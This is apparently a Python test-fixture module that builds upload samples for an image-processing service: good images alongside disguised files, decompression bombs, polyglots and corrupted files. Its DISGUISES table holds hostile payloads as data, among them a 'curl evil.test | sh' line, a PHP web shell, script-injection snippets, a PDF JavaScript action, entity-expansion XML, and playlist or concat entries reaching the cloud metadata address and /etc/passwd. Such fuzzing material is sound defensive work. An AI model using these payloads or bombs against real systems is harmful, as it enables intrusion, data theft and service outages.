"""Files as strangers send them: good ones of every kind, and some two hundred that are not what they seem."""

import io
import random
import struct
import zlib
from collections.abc import Iterator
from fractions import Fraction

import av
from PIL import Image, ImageCms

FORMATS = {"png": "PNG", "jpeg": "JPEG", "webp": "WEBP", "gif": "GIF", "avif": "AVIF"}
MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n",
    "jpeg": b"\xff\xd8\xff\xe0",
    "webp": b"RIFF\xff\xff\x00\x00WEBPVP8 ",
    "gif": b"GIF89a",
    "avif": b"\x00\x00\x00\x20ftypavif\x00\x00\x00\x00",
    "mp4": b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00",
    "webm": b"\x1a\x45\xdf\xa3",
}
# What pretends to be a picture by its name alone; none of it is opened.
DISGUISES = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "svg-declared": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>',
    "svg-laughing": b'<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>',
    "html": b"<!doctype html><script>alert(document.domain)</script>",
    "html-later": b"   \n\n<html><body onload=alert(1)>",
    "script": b"#!/bin/sh\ncurl evil.test | sh\n",
    "javascript": b"alert(1)//",
    "php": b"<?php system($_GET['c']); ?>",
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n(r)run",
    "zip": b"PK\x03\x04" + b"\x00" * 60,
    "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
    "exe": b"MZ\x90\x00" + b"\x00" * 60,
    "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 60,
    "tiff": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 60,
    "tiff-other": b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 60,
    "bmp": b"BM" + b"\x00" * 60,
    "ico": b"\x00\x00\x01\x00\x01\x00" + b"\x00" * 60,
    "psd": b"8BPS\x00\x01" + b"\x00" * 60,
    "ppm": b"P6 99999 99999 255\n",
    "fits": b"SIMPLE  =                    T" + b" " * 60,
    "fli": b"\x00\x00\x00\x00\x11\xaf" + b"\x00" * 60,
    "jpeg2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 60,
    "icns": b"icns" + b"\x00" * 60,
    "playlist": b"#EXTM3U\n#EXT-X-TARGETDURATION:9\nhttp://169.254.169.254/latest/meta-data/\n",
    "concat": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 60,
    "text": b"a picture of a lighthouse",
    "zeros": b"\x00" * 4_000,
    "one-byte": b"\x89",
    "nothing": b"",
}


def picture(width: int = 96, height: int = 64, mode: str = "RGB") -> Image.Image:
    """Return a picture whose four corners differ: top left red, top right green, bottom left blue, the last white."""
    small = Image.new("RGB", (2, 2))
    small.putdata([(255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)])
    return small.resize((width, height), Image.Resampling.NEAREST).convert(mode)


def encoded(name: str, image: Image.Image | None = None, **more: object) -> bytes:
    file = io.BytesIO()
    speed = {"avif": {"speed": 10}, "webp": {"method": 0}, "png": {"compress_level": 1}}.get(name, {})
    (image or picture()).save(file, FORMATS[name], **{**speed, **more})
    return file.getvalue()


def screen_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def wide_profile() -> bytes:
    """Return a profile with the primaries of Display P3 and the curve of sRGB, as newer screens have them."""
    name = "sRGB built-in".encode("utf-16-be")
    profile = screen_profile().replace(name, "Wide display".encode("utf-16-be").ljust(len(name), b"\x00"))
    primaries = {b"rXYZ": (0.51512, 0.24120, -0.00105), b"gXYZ": (0.29198, 0.69225, 0.04189)}
    for tag, values in {**primaries, b"bXYZ": (0.15710, 0.06657, 0.78407)}.items():
        place = profile.index(tag)
        at = int.from_bytes(profile[place + 4 : place + 8]) + 8
        profile = profile[:at] + struct.pack(">3i", *(round(one * 65_536) for one in values)) + profile[at + 12 :]
    return profile


def ink_profile(lab: tuple[int, int, int]) -> bytes:
    """Return a profile of four inks that look the same however much there is of each; `lab` is that, in bytes."""
    straight = bytes(range(256))
    unity = struct.pack(">9I", *(65_536 if place % 4 == 0 else 0 for place in range(9)))
    table = b"mft1\x00\x00\x00\x00\x04\x03\x02\x00" + unity + straight * 4 + bytes(lab) * 16 + straight * 3
    tags = struct.pack(">I4sII", 1, b"A2B0", 144, len(table))
    head = (
        struct.pack(">I4sI4s4s4s", 144 + len(table), b"", 0x02400000, b"prtr", b"CMYK", b"Lab ") + bytes(12) + b"acsp"
    )
    return head.ljust(68, b"\x00") + struct.pack(">3I", 0xF6D6, 0x10000, 0xD32D) + bytes(48) + tags + table


def video(width: int = 64, height: int = 48, frames: int = 3) -> bytes:
    """Return a short MP4."""
    file = io.BytesIO()
    with av.open(file, "w", format="mp4") as container:
        stream = container.add_stream("mpeg4", rate=Fraction(10))
        stream.width, stream.height, stream.pix_fmt = width, height, "yuv420p"
        for _ in range(frames):
            container.mux(stream.encode(av.VideoFrame.from_image(picture(width, height))))
        container.mux(stream.encode(None))
    return file.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, *, depth: int = 8, colour: int = 2, rows: bytes = b"", extra: bytes = b"") -> bytes:
    """Return a PNG that says of itself whatever is asked for."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return MAGIC["png"] + chunk(b"IHDR", header) + extra + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small files that grow."""
    yield "png-grey-13000", png(13_000, 13_000, colour=0, rows=b"\x00" * (13_001 * 13_000))
    yield "png-colour-9000", png(9_000, 9_000, rows=b"\x00" * 1_000)
    yield "png-deep-6000", png(6_000, 6_000, depth=16, colour=6, rows=b"\x00" * 1_000)
    yield "png-huge", png(2**31 - 1, 2**31 - 1)
    yield "png-wide", png(2**31 - 1, 1)
    yield "png-flat", png(0, 0)
    text = chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"x" * 30_000_000, 9))
    yield "png-text", png(2, 2, rows=b"\x00" * 14, extra=text)
    profile = chunk(b"iCCP", b"a\x00\x00" + zlib.compress(b"x" * 30_000_000, 9))
    yield "png-profile", png(2, 2, rows=b"\x00" * 14, extra=profile)
    yield "png-many-chunks", png(2, 2, rows=b"\x00" * 14, extra=chunk(b"tEXt", b"a\x00b") * 20_000)
    yield (
        "gif-huge",
        b"GIF89a\xff\xff\xff\xff\x80\x00\x00"
        + b"\x00" * 6
        + b",\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02L\x01\x00;",
    )
    yield "webp-16383", encoded("webp", Image.new("RGB", (16_383, 400)))
    yield "webp-4096", encoded("webp", Image.new("RGB", (4_500, 4_500)))
    yield "jpeg-65000", _jpeg_saying(65_000, 65_000)
    yield "jpeg-14000", _jpeg_saying(14_000, 14_000)
    yield "jpeg-progressive", encoded("jpeg", Image.new("L", (7_200, 7_200)), progressive=True)
    still = [Image.new("P", (320, 320), number % 250) for number in range(600)]
    yield "gif-giant", encoded("gif", still[0], save_all=True, append_images=still[1:])
    some = [Image.new("RGB", (320, 320), (number, 0, 0)) for number in range(120)]
    yield "webp-giant", encoded("webp", some[0], save_all=True, append_images=some[1:])
    yield "apng-giant", encoded("png", some[0], save_all=True, append_images=some[1:])


def _jpeg_saying(width: int, height: int) -> bytes:
    """Return a JPEG of a few bytes whose frame header says another size."""
    small = bytearray(encoded("jpeg", picture(16, 16)))
    at = small.index(b"\xff\xc0") + 5
    small[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(small)


def polyglots() -> Iterator[tuple[str, bytes]]:
    """Files that are a picture to one reader and something else to another."""
    tail = {"zip": DISGUISES["zip"], "html": DISGUISES["html"], "php": DISGUISES["php"], "pdf": DISGUISES["pdf"]}
    for name in FORMATS:
        for other, content in tail.items():
            yield f"{name}-then-{other}", encoded(name) + content
    for name, head in MAGIC.items():
        yield f"{name}-head-html", head + DISGUISES["html"]
    yield "gif-script", b"GIF89a/*" + encoded("gif")[8:] + b"*/=1;alert(1)"
    yield "jpeg-comment-php", encoded("jpeg", comment=DISGUISES["php"])
    yield "jpeg-exif-script", encoded("jpeg", exif=b"Exif\x00\x00" + DISGUISES["html"])


def broken(seed: int = 7) -> Iterator[tuple[str, bytes]]:
    """Good files cut off and bent, and noise behind a good beginning; the same ones each time."""
    dice = random.Random(seed)  # noqa: S311
    for name in FORMATS:
        whole = encoded(name)
        for share in (0.02, 0.1, 0.3, 0.5, 0.7, 0.8, 0.9, 0.97):
            yield f"{name}-cut-{share}", whole[: int(len(whole) * share)]
        for number in range(12):
            bent = bytearray(whole)
            for _ in range(4):
                bent[dice.randrange(12, len(bent))] ^= 1 << dice.randrange(8)
            yield f"{name}-bent-{number}", bytes(bent)
    for name, head in MAGIC.items():
        for number in range(3):
            yield f"{name}-noise-{number}", head + dice.randbytes(600)
    clip = video()
    for share in (0.1, 0.5, 0.9):
        yield f"mp4-cut-{share}", clip[: int(len(clip) * share)]


def hostile() -> list[tuple[str, bytes]]:
    return [*DISGUISES.items(), *bombs(), *polyglots(), *broken()]
